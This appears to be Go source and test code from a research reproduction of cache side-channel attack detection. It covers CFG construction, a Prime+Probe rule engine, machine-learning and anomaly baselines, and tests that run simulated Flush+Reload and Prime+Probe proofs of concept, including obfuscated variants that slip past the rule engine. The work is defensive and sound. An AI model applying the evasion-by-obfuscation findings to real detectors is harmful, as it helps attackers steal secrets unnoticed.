	b := isa.NewBuilder("gt", 0)
	b.Nop().
		Jmp("next").
		Label("next").
		BeginAttack().
		Clflush(isa.Mem(isa.R0, 0)).
		EndAttack().
		Hlt()
	c := MustBuild(b.MustBuild())
	gt := c.GroundTruthAttackBlocks()
	if len(gt) != 1 {
		t.Fatalf("ground truth blocks = %v", gt)
	}
	if gt[0] != c.Prog.Labels["next"] {
		t.Errorf("ground truth leader = %#x", gt[0])
	}
	bb := c.Blocks[gt[0]]
	if !bb.HasAttackMark() || !bb.Contains(gt[0]) {
		t.Error("block mark/contains broken")
	}
	if bb.Contains(0) {
		t.Error("Contains must be block-local")
	}
}

func TestEntryMidProgram(t *testing.T) {
	b := isa.NewBuilder("mid-entry", 0)
	b.Label("helper").
		Ret().
		Label("main").
		Call("helper").
		Hlt().
		Entry("main")
	c := MustBuild(b.MustBuild())
	if c.EntryLeader() != c.Prog.Labels["main"] {
		t.Errorf("entry leader = %#x", c.EntryLeader())
	}
}

func TestInvalidProgramRejected(t *testing.T) {
	p := &isa.Program{Name: "bad"}
	if _, err := Build(p); err == nil {
		t.Error("invalid program must be rejected")
	}
}

func TestCFGStringAndLeaders(t *testing.T) {
	b := isa.NewBuilder("s", 0)
	b.Jmp("x").Label("x").Hlt()
	c := MustBuild(b.MustBuild())
	if c.String() == "" {
		t.Error("String empty")
	}
	ls := c.Leaders()
	for i := 1; i < len(ls); i++ {
		if ls[i-1] >= ls[i] {
			t.Error("leaders not sorted")
		}
	}
}

// Every instruction belongs to exactly one block, blocks partition the
// program, and every edge endpoint is a leader.
func TestCFGPartitionInvariant(t *testing.T) {
	b := isa.NewBuilder("part", 0)
	b.Mov(isa.R(isa.R0), isa.Imm(3)).
		Label("outer").
		Mov(isa.R(isa.R1), isa.Imm(2)).
		Label("inner").
		Dec(isa.R(isa.R1)).
		Jne("inner").
		Dec(isa.R(isa.R0)).
		Jne("outer").
		Call("sub").
		Hlt().
		Label("sub").
		Cmp(isa.R(isa.R0), isa.Imm(0)).
		Je("out").
		Nop().
		Label("out").
		Ret()
	p := b.MustBuild()
	c := MustBuild(p)
	count := 0
	for _, bb := range c.Blocks {
		count += len(bb.Insns)
		for i := 1; i < len(bb.Insns); i++ {
			if bb.Insns[i-1].Next() != bb.Insns[i].Addr {
				t.Error("non-contiguous block")
			}
			if bb.Insns[i-1].Op.IsBranch() {
				t.Error("branch inside a block")
			}
		}
	}
	if count != len(p.Insns) {
		t.Errorf("blocks cover %d of %d instructions", count, len(p.Insns))
	}
	for _, e := range c.G.Edges() {
		if _, ok := c.Blocks[e.From]; !ok {
			t.Errorf("edge from non-leader %#x", e.From)
		}
		if _, ok := c.Blocks[e.To]; !ok {
			t.Errorf("edge to non-leader %#x", e.To)
		}
	}
}

func TestDOT(t *testing.T) {
	b := isa.NewBuilder("dot", 0)
	b.Cmp(isa.R(isa.R0), isa.Imm(0)).
		Je("x").
		Nop().
		Label("x").
		Hlt()
	c := MustBuild(b.MustBuild())
	out := c.DOT(map[uint64]bool{c.EntryLeader(): true})
	for _, want := range []string{"digraph", "lightcoral", "->", "cmp r0"} {
		if !strings.Contains(out, want) {
			t.Errorf("DOT missing %q:\n%s", want, out)
		}
	}
	gout := c.GraphDOT(c.G, "attack-graph")
	if !strings.Contains(gout, "attack-graph") || !strings.Contains(gout, "insns") {
		t.Errorf("GraphDOT:\n%s", gout)
	}
}
