package cfg

import (
	"fmt"
	"strings"

	"repro/internal/graph"
)

// DOT renders the CFG in Graphviz syntax. highlight marks blocks (by
// leader) drawn filled — the attack-relevant set, for figures like the
// paper's Fig. 1 and Fig. 4.
func (c *CFG) DOT(highlight map[uint64]bool) string {
	var b strings.Builder
	fmt.Fprintf(&b, "digraph %q {\n  node [shape=box, fontname=\"monospace\"];\n", c.Prog.Name)
	for _, leader := range c.Leaders() {
		bb := c.Blocks[leader]
		var lines []string
		for _, in := range bb.Insns {
			lines = append(lines, in.String())
		}
		attrs := ""
		if highlight[leader] {
			attrs = ", style=filled, fillcolor=lightcoral"
		}
		fmt.Fprintf(&b, "  n%x [label=\"0x%x:\\l%s\\l\"%s];\n",
			leader, leader, strings.Join(lines, "\\l"), attrs)
	}
	for _, e := range c.G.Edges() {
		fmt.Fprintf(&b, "  n%x -> n%x;\n", e.From, e.To)
	}
	b.WriteString("}\n")
	return b.String()
}

// GraphDOT renders any leader-keyed digraph (e.g. the attack-relevant
// graph) with block summaries from this CFG.
func (c *CFG) GraphDOT(g *graph.Digraph, title string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "digraph %q {\n  node [shape=box, fontname=\"monospace\"];\n", title)
	for _, n := range g.Nodes() {
		label := fmt.Sprintf("0x%x", n)
		if bb, ok := c.Blocks[n]; ok {
			label = fmt.Sprintf("0x%x (%d insns)", n, len(bb.Insns))
		}
		fmt.Fprintf(&b, "  n%x [label=%q];\n", n, label)
	}
	for _, e := range g.Edges() {
		fmt.Fprintf(&b, "  n%x -> n%x;\n", e.From, e.To)
	}
	b.WriteString("}\n")
	return b.String()
}
