package baseline

import (
	"sort"

	"repro/internal/exec"
	"repro/internal/isa"
)

// SCADET is the learning-free rule engine of Sabbagh et al.: it scans
// the target's cache-set access trace for the Prime+Probe signature —
// per LLC set, a burst that fills all ways (prime) followed, after a
// quiet interval, by a second burst over the same set (probe), the
// pattern repeating across several sets.
//
// Like the original tool, its rules describe Prime+Probe only: programs
// that rely on CLFLUSH are outside its rule set, and in the experiments
// it can only ever report the families whose rules the defender has
// loaded (Section IV-D discussion). The rules are deliberately literal
// pattern matches; that brittleness against variants is exactly what
// the paper's E2-E4 comparisons exercise.
type SCADET struct {
	// Ways is the associativity a prime burst must cover.
	Ways int
	// MaxBurstGap is the largest cycle gap between consecutive accesses
	// of one burst; it tolerates victim interleaving but separates the
	// prime and probe phases of one set.
	MaxBurstGap uint64
	// MinSets is how many sets must exhibit the prime/probe pattern.
	MinSets int
	// MaxForeign is how many foreign-set accesses a burst tolerates
	// between two accesses of its set.
	MaxForeign int
	// MaxLoopBody is the largest loop body (in instructions) the prime
	// loop may have: every burst must come from a single load PC whose
	// enclosing loop is tight. Junk-code obfuscation inflates loop
	// bodies past this bound, which is how the rule set loses the
	// obfuscated variants.
	MaxLoopBody int
	// Label is the verdict for a match (the PP family label).
	Label string
	// BenignLabel is the verdict when no rule fires.
	BenignLabel string
}

// NewSCADET returns the rule engine with its published configuration
// adapted to this machine (8-way LLC, tight-loop gap calibrated to the
// corpus's prime loops).
func NewSCADET() *SCADET {
	return &SCADET{
		Ways:        8,
		MaxBurstGap: 5000,
		MinSets:     3,
		MaxForeign:  2,
		MaxLoopBody: 16,
		Label:       "PP-F",
		BenignLabel: "Benign",
	}
}

// Name identifies the tool.
func (s *SCADET) Name() string { return "SCADET" }

// burst is a run of same-set accesses.
type burst struct {
	start, end uint64 // cycles
	count      int
	pc         uint64 // single source PC, 0 when mixed
	lines      map[uint64]struct{}
}

// Detect applies the rules to a trace and program, returning the label.
func (s *SCADET) Detect(tr *exec.Trace, prog *isa.Program) string {
	// Rule 0: Prime+Probe does not flush; a clflush-bearing program is
	// outside the rule set.
	if prog != nil {
		for _, in := range prog.Insns {
			if in.Op == isa.CLFLUSH {
				return s.BenignLabel
			}
		}
	}

	// Split the chronological set trace into per-set access lists while
	// tracking global ordering for the foreign-access tolerance.
	type access struct {
		cycle uint64
		seq   int
		pc    uint64
		line  uint64
	}
	bySet := make(map[int][]access)
	for i, e := range tr.SetTrace {
		if e.Kind == exec.SetFlush {
			return s.BenignLabel
		}
		bySet[e.Set] = append(bySet[e.Set], access{cycle: e.Cycle, seq: i, pc: e.PC, line: e.Line})
	}

	setsWithPattern := 0
	sets := make([]int, 0, len(bySet))
	for set := range bySet {
		sets = append(sets, set)
	}
	sort.Ints(sets)
	for _, set := range sets {
		accs := bySet[set]
		// Carve bursts: consecutive accesses with small cycle gaps and
		// few interleaved foreign accesses.
		// A burst is a run of same-set accesses from one instruction (the
		// loop's load) with small gaps; a change of source PC starts the
		// next phase (prime -> probe).
		var bursts []burst
		newBurst := func(a access) burst {
			return burst{start: a.cycle, end: a.cycle, count: 1, pc: a.pc,
				lines: map[uint64]struct{}{a.line: {}}}
		}
		cur := newBurst(accs[0])
		lastSeq := accs[0].seq
		for _, a := range accs[1:] {
			gap := a.cycle - cur.end
			foreign := a.seq - lastSeq - 1
			if a.pc == cur.pc && gap <= s.MaxBurstGap && foreign <= s.MaxForeign {
				cur.end = a.cycle
				cur.count++
				cur.lines[a.line] = struct{}{}
			} else {
				bursts = append(bursts, cur)
				cur = newBurst(a)
			}
			lastSeq = a.seq
		}
		bursts = append(bursts, cur)

		// A prime/probe pair: two consecutive full-way bursts, each from
		// a single load inside a tight loop and covering all ways with
		// distinct lines (a data-reuse loop over few lines is not a
		// prime sweep).
		full := 0
		for _, b := range bursts {
			if b.count >= s.Ways && len(b.lines) >= s.Ways && s.tightLoop(prog, b.pc) {
				full++
			}
		}
		if full >= 2 {
			setsWithPattern++
		}
	}
	if setsWithPattern >= s.MinSets {
		return s.Label
	}
	return s.BenignLabel
}

// tightLoop reports whether pc sits inside a loop whose body is at most
// MaxLoopBody instructions: there is a backward branch at or after pc
// targeting an address at or before pc, spanning a small body.
func (s *SCADET) tightLoop(prog *isa.Program, pc uint64) bool {
	if prog == nil {
		return true // no code available: trace-only mode skips the check
	}
	best := -1
	for _, in := range prog.Insns {
		t, ok := in.BranchTarget()
		if !ok || t > in.Addr {
			continue // not a backward branch
		}
		if t <= pc && pc <= in.Addr {
			body := int((in.Addr-t)/4) + 1
			if best < 0 || body < best {
				best = body
			}
		}
	}
	return best > 0 && best <= s.MaxLoopBody
}
