package baseline

import (
	"fmt"
	"math"
	"math/rand"
	"sort"
)

// Example is one labeled feature vector.
type Example struct {
	X     []float64
	Label string
}

// Classifier is the common interface of the trained baselines.
type Classifier interface {
	// Predict returns the label of one feature vector.
	Predict(x []float64) string
	// Name identifies the approach in reports.
	Name() string
}

// --- linear one-vs-rest machinery ---------------------------------------

// linearModel is a set of one-vs-rest linear scorers sharing a
// standardizer.
type linearModel struct {
	name    string
	labels  []string
	weights [][]float64 // per label: dim+1 (bias last)
	std     *Standardizer
}

func (m *linearModel) Name() string { return m.name }

func (m *linearModel) score(li int, x []float64) float64 {
	w := m.weights[li]
	s := w[len(w)-1]
	for i, v := range x {
		s += w[i] * v
	}
	return s
}

func (m *linearModel) Predict(x []float64) string {
	x = m.std.Apply(x)
	best, bestScore := 0, math.Inf(-1)
	for i := range m.labels {
		if s := m.score(i, x); s > bestScore {
			best, bestScore = i, s
		}
	}
	return m.labels[best]
}

func uniqueLabels(train []Example) []string {
	seen := make(map[string]bool)
	var out []string
	for _, ex := range train {
		if !seen[ex.Label] {
			seen[ex.Label] = true
			out = append(out, ex.Label)
		}
	}
	sort.Strings(out)
	return out
}

// SVMConfig tunes the Pegasos trainer.
type SVMConfig struct {
	Epochs int
	Lambda float64
	Seed   int64
}

// DefaultSVMConfig mirrors a reasonably tuned linear SVM.
func DefaultSVMConfig() SVMConfig { return SVMConfig{Epochs: 40, Lambda: 1e-3, Seed: 1} }

// TrainSVM trains the SVM-NW baseline: one-vs-rest linear SVMs fitted
// with the Pegasos stochastic sub-gradient method over standardized
// window features.
func TrainSVM(train []Example, cfg SVMConfig) (Classifier, error) {
	return trainLinear("SVM-NW", train, cfg.Epochs, cfg.Seed, func(w []float64, x []float64, y float64, t int) {
		lr := 1 / (cfg.Lambda * float64(t))
		margin := y * dotBias(w, x)
		for i := range w {
			w[i] *= 1 - lr*cfg.Lambda
		}
		if margin < 1 {
			for i, v := range x {
				w[i] += lr * y * v
			}
			w[len(w)-1] += lr * y
		}
	})
}

// LRConfig tunes the logistic-regression trainer.
type LRConfig struct {
	Epochs int
	Rate   float64
	Seed   int64
}

// DefaultLRConfig mirrors the LR-NW setup.
func DefaultLRConfig() LRConfig { return LRConfig{Epochs: 40, Rate: 0.05, Seed: 1} }

// TrainLR trains the LR-NW baseline: one-vs-rest logistic regression
// with SGD.
func TrainLR(train []Example, cfg LRConfig) (Classifier, error) {
	return trainLinear("LR-NW", train, cfg.Epochs, cfg.Seed, func(w []float64, x []float64, y float64, t int) {
		// y in {-1,+1}; p = sigmoid(s); gradient step on log-loss.
		s := dotBias(w, x)
		p := 1 / (1 + math.Exp(-s))
		target := 0.0
		if y > 0 {
			target = 1
		}
		g := p - target
		for i, v := range x {
			w[i] -= cfg.Rate * g * v
		}
		w[len(w)-1] -= cfg.Rate * g
	})
}

func dotBias(w, x []float64) float64 {
	s := w[len(w)-1]
	for i, v := range x {
		s += w[i] * v
	}
	return s
}

func trainLinear(name string, train []Example, epochs int, seed int64,
	update func(w []float64, x []float64, y float64, t int)) (Classifier, error) {
	if len(train) == 0 {
		return nil, fmt.Errorf("baseline: %s: empty training set", name)
	}
	dim := len(train[0].X)
	for _, ex := range train {
		if len(ex.X) != dim {
			return nil, fmt.Errorf("baseline: %s: inconsistent feature dims", name)
		}
	}
	raw := make([][]float64, len(train))
	for i, ex := range train {
		raw[i] = ex.X
	}
	std := FitStandardizer(raw)
	xs := make([][]float64, len(train))
	for i, ex := range train {
		xs[i] = std.Apply(ex.X)
	}
	labels := uniqueLabels(train)
	m := &linearModel{name: name, labels: labels, std: std}
	rng := rand.New(rand.NewSource(seed))
	for _, label := range labels {
		w := make([]float64, dim+1)
		t := 1
		for e := 0; e < epochs; e++ {
			for _, i := range rng.Perm(len(xs)) {
				y := -1.0
				if train[i].Label == label {
					y = 1.0
				}
				update(w, xs[i], y, t)
				t++
			}
		}
		m.weights = append(m.weights, w)
	}
	return m, nil
}

// --- kNN -----------------------------------------------------------------

// KNNConfig tunes the KNN-MLFM baseline.
type KNNConfig struct{ K int }

// DefaultKNNConfig uses k=5 as in the original study's best setting.
func DefaultKNNConfig() KNNConfig { return KNNConfig{K: 5} }

type knnModel struct {
	k     int
	std   *Standardizer
	train []Example // standardized copies
}

func (m *knnModel) Name() string { return "KNN-MLFM" }

func (m *knnModel) Predict(x []float64) string {
	x = m.std.Apply(x)
	type cand struct {
		d     float64
		label string
	}
	cands := make([]cand, len(m.train))
	for i, ex := range m.train {
		d := 0.0
		for j, v := range ex.X {
			diff := v - x[j]
			d += diff * diff
		}
		cands[i] = cand{d, ex.Label}
	}
	sort.Slice(cands, func(i, j int) bool { return cands[i].d < cands[j].d })
	k := m.k
	if k > len(cands) {
		k = len(cands)
	}
	votes := make(map[string]int)
	for _, c := range cands[:k] {
		votes[c.label]++
	}
	best, bestN := "", -1
	for _, c := range cands[:k] { // deterministic tie-break by proximity
		if votes[c.label] > bestN {
			best, bestN = c.label, votes[c.label]
		}
	}
	return best
}

// TrainKNN builds the KNN-MLFM baseline over loop features.
func TrainKNN(train []Example, cfg KNNConfig) (Classifier, error) {
	if len(train) == 0 {
		return nil, fmt.Errorf("baseline: KNN-MLFM: empty training set")
	}
	if cfg.K <= 0 {
		cfg.K = DefaultKNNConfig().K
	}
	raw := make([][]float64, len(train))
	for i, ex := range train {
		raw[i] = ex.X
	}
	std := FitStandardizer(raw)
	cp := make([]Example, len(train))
	for i, ex := range train {
		cp[i] = Example{X: std.Apply(ex.X), Label: ex.Label}
	}
	return &knnModel{k: cfg.K, std: std, train: cp}, nil
}
