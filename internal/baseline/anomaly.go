package baseline

import (
	"fmt"
	"math"
)

// AnomalyDetector is the victim-oriented approach of the related-work
// section (Chiappetta et al.): a one-class model fitted on *benign*
// window features only — no attack samples needed — that flags any
// sufficiently out-of-distribution trace as an attack. The paper's
// critique, which the tests reproduce, is that single-source anomaly
// models produce false positives on unusual-but-benign programs and can
// only say "anomalous", never which attack family.
type AnomalyDetector struct {
	mean []float64
	std  []float64
	// K is the z-score radius: a sample whose maximum per-dimension
	// z-score exceeds K is anomalous.
	K float64
	// AttackLabel and BenignLabel are the two possible verdicts.
	AttackLabel string
	BenignLabel string
}

// DefaultAnomalyK follows the usual 3-sigma rule, widened slightly for
// the small training sets of the experiments.
const DefaultAnomalyK = 4.0

// TrainAnomaly fits the detector on benign feature vectors.
func TrainAnomaly(benign [][]float64, k float64) (*AnomalyDetector, error) {
	if len(benign) == 0 {
		return nil, fmt.Errorf("baseline: anomaly: empty benign training set")
	}
	dim := len(benign[0])
	for _, x := range benign {
		if len(x) != dim {
			return nil, fmt.Errorf("baseline: anomaly: inconsistent feature dims")
		}
	}
	if k <= 0 {
		k = DefaultAnomalyK
	}
	d := &AnomalyDetector{
		mean:        make([]float64, dim),
		std:         make([]float64, dim),
		K:           k,
		AttackLabel: "Anomalous",
		BenignLabel: "Benign",
	}
	for _, x := range benign {
		for i, v := range x {
			d.mean[i] += v
		}
	}
	for i := range d.mean {
		d.mean[i] /= float64(len(benign))
	}
	for _, x := range benign {
		for i, v := range x {
			diff := v - d.mean[i]
			d.std[i] += diff * diff
		}
	}
	for i := range d.std {
		d.std[i] = math.Sqrt(d.std[i] / float64(len(benign)))
		if d.std[i] < 1e-9 {
			d.std[i] = 1e-9
		}
	}
	return d, nil
}

// Score returns the maximum per-dimension z-score of a sample.
func (d *AnomalyDetector) Score(x []float64) float64 {
	worst := 0.0
	for i, v := range x {
		if i >= len(d.mean) {
			break
		}
		z := math.Abs(v-d.mean[i]) / d.std[i]
		if z > worst {
			worst = z
		}
	}
	return worst
}

// Name identifies the approach.
func (d *AnomalyDetector) Name() string { return "Anomaly-HPC" }

// Predict returns AttackLabel when the sample is out of distribution.
// Note the fundamental limitation vs SCAGuard: the verdict carries no
// family information.
func (d *AnomalyDetector) Predict(x []float64) string {
	if d.Score(x) > d.K {
		return d.AttackLabel
	}
	return d.BenignLabel
}
