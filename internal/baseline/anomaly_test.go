package baseline

import (
	"testing"

	"repro/internal/attacks"
	"repro/internal/benign"
)

func TestAnomalyTrainErrors(t *testing.T) {
	if _, err := TrainAnomaly(nil, 3); err == nil {
		t.Error("empty training must fail")
	}
	if _, err := TrainAnomaly([][]float64{{1}, {1, 2}}, 3); err == nil {
		t.Error("inconsistent dims must fail")
	}
}

func TestAnomalyOnSyntheticData(t *testing.T) {
	var train [][]float64
	for i := 0; i < 30; i++ {
		train = append(train, []float64{10 + float64(i%3), 5})
	}
	d, err := TrainAnomaly(train, 3)
	if err != nil {
		t.Fatal(err)
	}
	if got := d.Predict([]float64{11, 5}); got != d.BenignLabel {
		t.Errorf("in-distribution = %q", got)
	}
	if got := d.Predict([]float64{500, 5}); got != d.AttackLabel {
		t.Errorf("far-out sample = %q", got)
	}
	if d.Score([]float64{11, 5}) >= d.Score([]float64{100, 5}) {
		t.Error("score must grow with distance")
	}
}

// The related-work behavior on real traces: trained on benign windows
// only, the detector flags cache attacks (their flush/miss rates are
// far outside the benign distribution) but cannot name a family, and a
// legitimately unusual benign program can trip it.
func TestAnomalyOnRealTraces(t *testing.T) {
	var benignFeats [][]float64
	for seed := int64(1); seed <= 10; seed++ {
		for _, tmpl := range []string{"bubble-sort", "stream", "kadane", "hmac-loop"} {
			kind := benign.KindLeetcode
			switch tmpl {
			case "stream":
				kind = benign.KindSpec
			case "hmac-loop":
				kind, tmpl = benign.KindServer, "openssl-hmac"
			}
			p := benign.MustGenerate(benign.Spec{Kind: kind, Template: tmpl, Seed: seed})
			tr, err := Collect(p, nil, 300_000)
			if err != nil {
				t.Fatal(err)
			}
			benignFeats = append(benignFeats, WindowFeatures(tr))
		}
	}
	d, err := TrainAnomaly(benignFeats, DefaultAnomalyK)
	if err != nil {
		t.Fatal(err)
	}

	// Attacks must be flagged.
	detected := 0
	pocs := attacks.All(attacks.DefaultParams())
	for _, poc := range pocs {
		tr, err := Collect(poc.Program, poc.Victim, 300_000)
		if err != nil {
			t.Fatal(err)
		}
		if d.Predict(WindowFeatures(tr)) == d.AttackLabel {
			detected++
		}
	}
	if detected < len(pocs)*2/3 {
		t.Errorf("anomaly detector flagged only %d/%d attacks", detected, len(pocs))
	}

	// Held-out benign of the same kinds mostly passes.
	pass := 0
	total := 0
	for seed := int64(50); seed < 56; seed++ {
		p := benign.MustGenerate(benign.Spec{Kind: benign.KindLeetcode, Template: "bubble-sort", Seed: seed})
		tr, err := Collect(p, nil, 300_000)
		if err != nil {
			t.Fatal(err)
		}
		total++
		if d.Predict(WindowFeatures(tr)) == d.BenignLabel {
			pass++
		}
	}
	if pass < total/2 {
		t.Errorf("anomaly detector rejected %d/%d held-out benign", total-pass, total)
	}

	// And the verdict carries no family: it is a fixed label.
	if d.AttackLabel == string(attacks.FamilyFR) || d.AttackLabel == string(attacks.FamilyPP) {
		t.Error("anomaly verdicts must not name families")
	}
}
