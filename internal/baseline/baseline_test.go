package baseline

import (
	"math/rand"
	"testing"

	"repro/internal/attacks"
	"repro/internal/benign"
	"repro/internal/exec"
	"repro/internal/hpc"
	"repro/internal/isa"
	"repro/internal/mutate"
)

func trace(t *testing.T, prog, victim *isa.Program) *exec.Trace {
	t.Helper()
	tr, err := Collect(prog, victim, 300_000)
	if err != nil {
		t.Fatal(err)
	}
	return tr
}

func TestWindowFeaturesShape(t *testing.T) {
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadIAIK(p)
	tr := trace(t, poc.Program, poc.Victim)
	x := WindowFeatures(tr)
	if len(x) != FeatureDim {
		t.Fatalf("feature dim = %d, want %d", len(x), FeatureDim)
	}
	nonzero := 0
	for _, v := range x {
		if v != 0 {
			nonzero++
		}
	}
	if nonzero < 5 {
		t.Errorf("features nearly all zero: %v", x)
	}
}

func TestLoopFeaturesShape(t *testing.T) {
	p := attacks.DefaultParams()
	poc := attacks.PrimeProbeIAIK(p)
	tr := trace(t, poc.Program, poc.Victim)
	x := LoopFeatures(tr)
	if len(x) != LoopFeatureDim {
		t.Fatalf("feature dim = %d, want %d", len(x), LoopFeatureDim)
	}
	// An empty trace still yields a full-size zero vector.
	empty := LoopFeatures(&exec.Trace{Bank: hpc.NewBank(), ByAddr: map[uint64]*exec.AddrRecord{}})
	if len(empty) != LoopFeatureDim {
		t.Errorf("empty feature dim = %d", len(empty))
	}
}

func TestStandardizer(t *testing.T) {
	xs := [][]float64{{1, 10}, {3, 10}}
	s := FitStandardizer(xs)
	out := s.Apply([]float64{2, 10})
	if out[0] != 0 {
		t.Errorf("standardized mean = %v", out[0])
	}
	if out[1] != 0 { // zero variance passes through as 0 after centering
		t.Errorf("zero-variance feature = %v", out[1])
	}
	if FitStandardizer(nil).Apply([]float64{5})[0] != 5 {
		t.Error("empty standardizer must be identity")
	}
}

// buildToy builds a small, clearly separable training set and checks a
// classifier learns it.
func checkLearner(t *testing.T, train func([]Example) (Classifier, error)) {
	t.Helper()
	rng := rand.New(rand.NewSource(1))
	var examples []Example
	for i := 0; i < 40; i++ {
		a := []float64{5 + rng.Float64(), 0 + rng.Float64(), rng.Float64()}
		b := []float64{0 + rng.Float64(), 5 + rng.Float64(), rng.Float64()}
		examples = append(examples,
			Example{X: a, Label: "atk"},
			Example{X: b, Label: "ben"})
	}
	c, err := train(examples)
	if err != nil {
		t.Fatal(err)
	}
	correct := 0
	for i := 0; i < 20; i++ {
		if c.Predict([]float64{5.5, 0.2, 0.5}) == "atk" {
			correct++
		}
		if c.Predict([]float64{0.2, 5.5, 0.5}) == "ben" {
			correct++
		}
	}
	if correct != 40 {
		t.Errorf("%s: %d/40 correct on separable data", c.Name(), correct)
	}
}

func TestSVMLearnsSeparableData(t *testing.T) {
	checkLearner(t, func(ex []Example) (Classifier, error) {
		return TrainSVM(ex, DefaultSVMConfig())
	})
}

func TestLRLearnsSeparableData(t *testing.T) {
	checkLearner(t, func(ex []Example) (Classifier, error) {
		return TrainLR(ex, DefaultLRConfig())
	})
}

func TestKNNLearnsSeparableData(t *testing.T) {
	checkLearner(t, func(ex []Example) (Classifier, error) {
		return TrainKNN(ex, DefaultKNNConfig())
	})
}

func TestTrainersRejectEmpty(t *testing.T) {
	if _, err := TrainSVM(nil, DefaultSVMConfig()); err == nil {
		t.Error("SVM empty train must fail")
	}
	if _, err := TrainLR(nil, DefaultLRConfig()); err == nil {
		t.Error("LR empty train must fail")
	}
	if _, err := TrainKNN(nil, DefaultKNNConfig()); err == nil {
		t.Error("KNN empty train must fail")
	}
	if _, err := TrainSVM([]Example{{X: []float64{1}}, {X: []float64{1, 2}}}, DefaultSVMConfig()); err == nil {
		t.Error("inconsistent dims must fail")
	}
}

// End-to-end: the learners must separate real attack traces from benign
// traces on held-out samples of the same kinds.
func TestLearnersOnRealTraces(t *testing.T) {
	var train, test []Example
	var trainLoop, testLoop []Example
	params := attacks.DefaultParams()
	add := func(prog, victim *isa.Program, label string, hold bool) {
		tr := trace(t, prog, victim)
		w := Example{X: WindowFeatures(tr), Label: label}
		l := Example{X: LoopFeatures(tr), Label: label}
		if hold {
			test = append(test, w)
			testLoop = append(testLoop, l)
		} else {
			train = append(train, w)
			trainLoop = append(trainLoop, l)
		}
	}
	for seed := int64(0); seed < 6; seed++ {
		poc := attacks.FlushReloadIAIK(params)
		m, err := mutate.Mutate(poc.Program, mutate.LightConfig(seed))
		if err != nil {
			t.Fatal(err)
		}
		add(m, poc.Victim, "attack", seed >= 4)
		bp := benign.MustGenerate(benign.Spec{Kind: benign.KindLeetcode, Template: "bubble-sort", Seed: seed})
		add(bp, nil, "benign", seed >= 4)
		bp2 := benign.MustGenerate(benign.Spec{Kind: benign.KindSpec, Template: "stream", Seed: seed})
		add(bp2, nil, "benign", seed >= 4)
	}
	svm, err := TrainSVM(train, DefaultSVMConfig())
	if err != nil {
		t.Fatal(err)
	}
	lr, err := TrainLR(train, DefaultLRConfig())
	if err != nil {
		t.Fatal(err)
	}
	knn, err := TrainKNN(trainLoop, DefaultKNNConfig())
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []Classifier{svm, lr} {
		correct := 0
		for _, ex := range test {
			if c.Predict(ex.X) == ex.Label {
				correct++
			}
		}
		if correct < len(test)*2/3 {
			t.Errorf("%s: %d/%d correct on held-out traces", c.Name(), correct, len(test))
		}
	}
	correct := 0
	for _, ex := range testLoop {
		if knn.Predict(ex.X) == ex.Label {
			correct++
		}
	}
	if correct < len(testLoop)*2/3 {
		t.Errorf("KNN-MLFM: %d/%d correct on held-out traces", correct, len(testLoop))
	}
}

func TestSCADETDetectsPlainPP(t *testing.T) {
	s := NewSCADET()
	p := attacks.DefaultParams()
	for _, build := range []func(attacks.Params) attacks.PoC{attacks.PrimeProbeIAIK, attacks.PrimeProbeJzhang} {
		poc := build(p)
		tr := trace(t, poc.Program, poc.Victim)
		if got := s.Detect(tr, poc.Program); got != "PP-F" {
			t.Errorf("%s detected as %q, want PP-F", poc.Name, got)
		}
	}
}

func TestSCADETIgnoresFlushFamily(t *testing.T) {
	s := NewSCADET()
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadIAIK(p)
	tr := trace(t, poc.Program, poc.Victim)
	if got := s.Detect(tr, poc.Program); got != "Benign" {
		t.Errorf("FR detected as %q (SCADET has no FR rules)", got)
	}
}

func TestSCADETMissesObfuscatedPP(t *testing.T) {
	s := NewSCADET()
	p := attacks.DefaultParams()
	poc := attacks.PrimeProbeIAIK(p)
	missed := 0
	const trials = 5
	for seed := int64(0); seed < trials; seed++ {
		m, err := mutate.Mutate(poc.Program, mutate.ObfuscationConfig(seed))
		if err != nil {
			t.Fatal(err)
		}
		tr := trace(t, m, poc.Victim)
		if s.Detect(tr, m) == "Benign" {
			missed++
		}
	}
	if missed < trials-1 {
		t.Errorf("SCADET missed only %d/%d obfuscated PP variants; rules too robust", missed, trials)
	}
}

func TestSCADETIgnoresBenign(t *testing.T) {
	s := NewSCADET()
	for _, spec := range []benign.Spec{
		{Kind: benign.KindCrypto, Template: "aes-ttable", Seed: 2},
		{Kind: benign.KindSpec, Template: "histogram", Seed: 2},
		{Kind: benign.KindServer, Template: "gzip-deflate", Seed: 2},
	} {
		prog := benign.MustGenerate(spec)
		tr := trace(t, prog, nil)
		if got := s.Detect(tr, prog); got != "Benign" {
			t.Errorf("%s flagged as %q", spec.Name(), got)
		}
	}
}

func TestSCADETEvictReloadOutsideRules(t *testing.T) {
	// Evict+Reload walks eviction sets like PP but targets shared lines;
	// SCADET's full prime/probe pattern (two full-way bursts per set over
	// several sets) should usually not match its single-line reloads.
	s := NewSCADET()
	p := attacks.DefaultParams()
	poc := attacks.EvictReloadIAIK(p)
	tr := trace(t, poc.Program, poc.Victim)
	got := s.Detect(tr, poc.Program)
	// ER evicts with full-way walks twice per round per set, so SCADET
	// may legitimately fire; record the behavior either way but require
	// determinism.
	got2 := s.Detect(tr, poc.Program)
	if got != got2 {
		t.Error("SCADET nondeterministic")
	}
}
