// Package baseline re-implements the four detection approaches the
// paper compares against (Section IV-D):
//
//   - SCADET (Sabbagh et al., ICCAD'18) — a learning-free rule engine
//     that tracks Prime+Probe patterns in cache-set access traces;
//   - SVM-NW and LR-NW (Mushtaq et al., NIGHTs-WATCH, HASP'18) — linear
//     classifiers over windowed HPC features;
//   - KNN-MLFM (Allaf et al., UKCI'17) — a k-nearest-neighbor classifier
//     over hot-loop HPC signatures.
//
// The learners are trained on labeled samples (10-fold cross-validation
// in the experiments); SCADET needs no training but only ever knows the
// attack families its rules describe.
package baseline

import (
	"math"
	"sort"

	"repro/internal/exec"
	"repro/internal/hpc"
	"repro/internal/isa"
)

// nwEvents is the counter subset the NIGHTs-WATCH detectors sample in
// real time — a handful of miss/hit/branch counters, not the full
// Table-I set (the original system monitors three to four counters per
// run; richer vectors would overstate the baseline).
var nwEvents = [...]hpc.Event{
	hpc.L1DLoadMiss,
	hpc.LLCLoadMiss,
	hpc.LLCLoadHit,
	hpc.BranchMiss,
}

// FeatureDim is the length of the HPC feature vector used by the
// NIGHTs-WATCH-style classifiers: mean and max of each sampled counter
// across sampling windows, plus the window count and total cycles.
